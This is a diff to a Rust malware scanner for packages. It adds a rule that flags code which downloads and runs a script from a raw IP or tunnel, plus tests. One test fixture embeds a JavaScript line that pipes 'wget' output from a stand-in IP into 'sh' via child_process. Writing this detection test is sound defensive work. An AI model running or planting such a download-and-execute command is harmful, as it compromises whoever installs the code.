@@ -184,6 +184,13 @@ pub fn judge(pkg: &Package, hits: &[Hit]) -> (Verdict, Vec<String>) {
                 "{file}: code hidden from view runs commands or talks to a suspicious endpoint"
             ));
         }
+        // `curl … | sh` (or a PowerShell cradle) whose source is a raw IP, collector or tunnel,
+        // however the command reaches the shell.
+        if high("shell-download-exec") && high("suspicious-endpoint") {
+            reasons.insert(format!(
+                "{file}: downloads and runs code from a raw IP, collector or tunnel"
+            ));
+        }
         if high("suspicious-endpoint") && handles_wallet_secrets(pkg, file) {
             reasons.insert(format!(
                 "{file}: handles wallet seeds or keys and talks to a collector, webhook or raw IP"
@@ -265,5 +272,33 @@ pub fn judge(pkg: &Package, hits: &[Hit]) -> (Verdict, Vec<String>) {
             )
         }
         _ => (Verdict::Ok, Vec::new()),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::model::{ScanOptions, Verdict};
+
+    fn verdict(path: &str, src: &str) -> Verdict {
+        let files = vec![
+            (
+                "package.json".to_string(),
+                br#"{"name":"a","version":"1.0.0","main":"index.js"}"#.to_vec(),
+            ),
+            (path.to_string(), src.as_bytes().to_vec()),
+        ];
+        crate::scan_files(files, &ScanOptions::default()).verdict
+    }
+
+    #[test]
+    fn pipe_to_shell_from_a_raw_ip_is_malicious() {
+        let src = "const cp = process.getBuiltinModule('child_process');\ncp.execFile('/bin/sh', ['-c', 'wget -qO- http://192.0.2.200/l | sh'], () => {});";
+        assert_eq!(verdict("index.js", src), Verdict::Malicious);
+    }
+
+    #[test]
+    fn install_hint_from_a_named_host_is_not_malicious() {
+        let src = "const cp = require('child_process');\nif (!has('rustup')) console.log('run: curl -sSf https://sh.rustup.example | sh');\ncp.execFileSync('cargo', ['build']);";
+        assert_ne!(verdict("index.js", src), Verdict::Malicious);
     }
 }
